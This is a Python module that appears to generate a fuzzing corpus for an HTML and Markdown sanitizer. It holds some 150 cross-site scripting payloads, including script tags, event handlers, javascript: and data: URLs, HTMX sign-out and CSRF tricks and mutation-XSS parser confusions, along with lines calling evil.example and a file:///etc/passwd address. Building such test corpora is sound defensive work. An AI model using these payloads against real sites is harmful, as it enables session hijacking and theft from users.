"""Hostile bodies for whatever shows text as HTML: some 150 seeds of our own, and any number of mixtures of them."""

import random
from collections.abc import Iterator

SCRIPTS = [
    "<script>{x}</script>",
    "<ScRiPt >{x}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>{x}</scr</script>ipt>",
    "<script\n>{x}</script\n>",
    "<script/x>{x}</script>",
    "</p><script>{x}</script><p>",
    "<noscript><p title='</noscript><script>{x}</script>'></noscript>",
    "<template><script>{x}</script></template>",
    "<svg><script>{x}</script></svg>",
    "<svg><script href='data:text/javascript,{x}'/></svg>",
    "<math><script>{x}</script></math>",
    "<xmp><script>{x}</script></xmp>",
    "<plaintext><script>{x}</script>",
    "<textarea></textarea><script>{x}</script>",
    "<title></title><script>{x}</script>",
    "<iframe srcdoc='<script>{x}</script>'></iframe>",
    "&lt;script&gt;{x}&lt;/script&gt;",
    "&#60;script&#62;{x}&#60;/script&#62;",
    "\\<script\\>{x}\\</script\\>",
    "<\0script>{x}</script>",
    "<script\0>{x}</script>",
    "\ufeff<script>{x}</script>",
    "<\u200bscript>{x}</script>",
    "＜script＞{x}＜/script＞",
    "<script>{x}",
    "<!--><script>{x}</script>-->",
    "<!-- --!><script>{x}</script> -->",
    "<![CDATA[<script>{x}</script>]]>",
    "<?xml version='1.0'?><script>{x}</script>",
]
HANDLERS = [
    "<img src=x onerror={x}>",
    "<img/src=x/onerror={x}>",
    "<img src=x onerror\n=\n{x}>",
    "<img src=x oNeRrOr={x}>",
    "<img src=x onerror=&#106;s:{x}>",
    '<img src="x` `<script>{x}</script>"` `>',
    "<svg onload={x}>",
    "<svg/onload={x}>",
    "<svg><animate onbegin={x} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={x}>",
    "<body onload={x}>",
    "<body onpageshow={x}>",
    "<input autofocus onfocus={x}>",
    "<select autofocus onfocus={x}>",
    "<details open ontoggle={x}>",
    "<video><source onerror={x}></video>",
    "<audio src=x onerror={x}>",
    "<marquee onstart={x}>",
    "<div onpointerenter={x} style=position:fixed;inset:0>x</div>",
    "<a onclick={x} href=#>x</a>",
    "<p onanimationstart={x} class=highlight>x</p>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle={x}>",
    "<copy-button onclick={x}>x</copy-button>",
    "<object data=x onerror={x}></object>",
    "<style onload={x}></style>",
    "<link rel=stylesheet href=x onerror={x}>",
    '![x" onerror="{x}](http://evil.example/x.png)',
    '[x](http://evil.example/" onclick="{x})',
    "[x](http://evil.example 'y\" onmouseover=\"{x}')",
    "```py\" onload=\"{x}\ncode\n```",
    "```\"><img src=x onerror={x}>\ncode\n```",
    "``` <script>{x}</script>\ncode\n```",
    "| <img src=x onerror={x}> | b |\n|---|---|\n| <svg onload={x}> | c |",
    "- [ ] <img src=x onerror={x}>\n- [x]<script>{x}</script>",
    "1. \" onload={x} \"\n2. <svg/onload={x}>",
]
ADDRESSES = [
    "javascript:{x}",
    "JaVaScRiPt:{x}",
    " javascript:{x}",
    "\tjavascript:{x}",
    "java\tscript:{x}",
    "java\nscript:{x}",
    "java&#9;script:{x}",
    "java&Tab;script:{x}",
    "java&NewLine;script:{x}",
    "&#106;avascript:{x}",
    "&#x6A;avascript:{x}",
    "&#0000106;avascript:{x}",
    "javascript&colon;{x}",
    "javascript&#58;{x}",
    "javascript%3A{x}",
    "\\javascript:{x}",
    "java\\script:{x}",
    "\u0001javascript:{x}",
    "\u00a0javascript:{x}",
    "javascript://example.org/%0a{x}",
    "javascript:/*http://*/{x}",
    "vbscript:{x}",
    "data:text/html,<script>{x}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={x}>",
    "data:image/png;base64,AAAA",
    "file:///etc/passwd",
    "blob:http://example.org/x",
    "feed:javascript:{x}",
    "view-source:javascript:{x}",
    "http:javascript:{x}",
    "//evil.example/x.png",
    "/sign-out",
    "\\\\evil.example\\x",
    "http://evil.example/x.png",
    "https://evil.example/?<script>{x}</script>",
    "https://user:pass@evil.example/",
    "http://[::1]/x",
    "http://[/x",
    "http://%zz",
    "mailto:a@example.org?body=<script>{x}</script>",
    "ｊavascript:{x}",
    "j\u0430vascript:{x}",
    "#anchor",
    "?hx-get=/x",
]
CARRIERS = [
    "[x]({a})",
    "[x](<{a}>)",
    "[x]({a} 'title')",
    "![x]({a})",
    "![]({a})",
    "[![x]({a})]({a})",
    "<{a}>",
    "{a}",
    "[x]: {a}\n\n[x] [x][] ![x]",
    "<a href='{a}'>x</a>",
    "<img src={a}>",
    "<iframe src='{a}'></iframe>",
    "<form action='{a}'><button>x</button></form>",
    "<a href='http://ok.example' xlink:href='{a}'>x</a>",
    "<svg><a xlink:href='{a}'><text>x</text></a></svg>",
    "<svg><use href='{a}'/></svg>",
    "<math href='{a}'>x</math>",
    "<object data='{a}'></object><embed src='{a}'>",
    "<base href='{a}'>",
    "<meta http-equiv=refresh content='0;url={a}'>",
    "<link rel=stylesheet href='{a}'><link rel=prefetch href='{a}'>",
    "<video poster='{a}' src='{a}'></video><audio src='{a}'></audio>",
    "<input type=image src='{a}' formaction='{a}'>",
    "<p style='background:url({a})'>x</p><style>@import '{a}';</style>",
    "<table background='{a}'><td background='{a}'>x</table>",
]
HTMX = [
    "<div hx-get=/sign-out hx-trigger=load>x</div>",
    "<div data-hx-post=/sign-out data-hx-trigger=load>x</div>",
    "<div hx-on:click={x} hx-on::load={x}>x</div>",
    "<div hx-on--load={x} hx-vals='js:{{a:{x}}}'>x</div>",
    "<hx-partial hx-target=#log hx-swap=innerHTML>x</hx-partial>",
    "<a hx-boost=true hx-swap-oob=true id=log href=/x>x</a>",
    "<div hx-sse:connect=/x hx-ext=sse>x</div>",
    "[x](http://ok.example 'hx-get=/x')",
    "[x](http://ok.example){{hx-get=/x .open #log onclick={x}}}",
    "```js {{hx-get=/x onclick={x}}}\ncode\n```",
    "# x {{#log .open onclick={x}}}",
    "</div><div class=open id=log>x",
    "data: x\n\nevent: signed-out\ndata: x\n\n",
    "<form action=/sign-out method=post><input name=csrf></form>",
    "<button form=composer formaction=/sign-out>x</button>",
    "<input name=csrf id=csrf value=x>",
    "<dialog open>x</dialog><slot name=x></slot>",
]
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={x}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={x}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={x}>",
    "<noembed><img title='</noembed><img src=x onerror={x}>'></noembed>",
    "<svg><foreignobject><p><style><!--</style><img src=x onerror={x}>--></style>",
    "<select><template><img src=x onerror={x}></template></select>",
    "<table><tr><td><svg><desc><td><script>{x}</script>",
    "<a><b><a><i><p></b><script>{x}</script></a>",
    "<annotation-xml encoding=text/html><img src=x onerror={x}></annotation-xml>",
    "<p><listing>&lt;img src=x onerror={x}&gt;</listing>",
    "[a](http://x.example/`)`<img src=x onerror={x}>`",
    "`<img src=x onerror={x}>` ``` ` <svg onload={x}> ```",
    "**<b onmouseover={x}>**</b>**",
    "[[[[[x](http://a.example)](javascript:{x})](data:x)]](http://b.example)",
    "![![![x](javascript:{x})](http://a.example)](http://b.example)",
    "> > > <script>{x}</script>\n> - <img src=x onerror={x}>\n>   ```\n<svg onload={x}>",
    "<x\ufdd0y onload={x}>\ufdd0</x>",
    "\ufffe\uffff\u2028<img\u2028src=x\u2029onerror={x}>",
    "\u202e<script>{x}</script>\u202c",
    "\x0c<img\x0csrc=x\x0bonerror={x}>\x1b[31m",
    "<img\rsrc=x\r\nonerror={x}>",
    "&\0amp;lt;script&\0gt;{x}",
    "<https://a.example/\"onmouseover=\"{x}>",
    "https://a.example/\"onmouseover={x} https://a.example/<script>{x}</script>",
    "~~~html\n<script>{x}</script>\n~~~\n    <script>{x}</script>",
    "| a |\n|:-:\" onload={x}|\n",
    "<<script>script>{x}<</script>/script>",
]
ACTIONS = ["alert(1)", "window.pwned=1", "fetch('//evil.example/')", "`${window.pwned=1}`", "self['ale'+'rt']`1`"]


def seeds() -> list[str]:
    """Each way in once; `window.pwned` is what a script among them would set."""
    whole = [*SCRIPTS, *HANDLERS, *HTMX, *MUTATIONS]
    return [s.format(x="window.pwned=1") for s in whole] + [
        CARRIERS[at % len(CARRIERS)].format(a=address.format(x="window.pwned=1")) for at, address in enumerate(ADDRESSES)
    ]


def hostile(count: int, seed: int) -> Iterator[str]:
    """`count` bodies: every seed, then mixtures of two to four, nested in marks or cut short. The same for the same seed."""
    chosen = random.Random(seed)
    yield from seeds()[:count]
    for _ in range(count - len(seeds())):
        body = chosen.choice(["", " ", "\n", "\n\n"]).join(_one(chosen) for _ in range(chosen.randint(2, 4)))
        yield body[: chosen.randint(1, len(body))] if chosen.random() < 0.2 else body


def _one(chosen: random.Random) -> str:
    x = chosen.choice(ACTIONS)
    if chosen.random() < 0.5:
        body = chosen.choice(CARRIERS).format(a=chosen.choice(ADDRESSES).format(x=x))
    else:
        body = chosen.choice([*SCRIPTS, *HANDLERS, *HTMX, *MUTATIONS]).format(x=x)
    around = ["{}", "**{}**", "`{}`", "> {}", "- {}", "[{}](http://a.example)", "# {}", "~~{}", "| {} |\n|---|", "```\n{}\n```"]
    return chosen.choice(around).replace("{}", body)
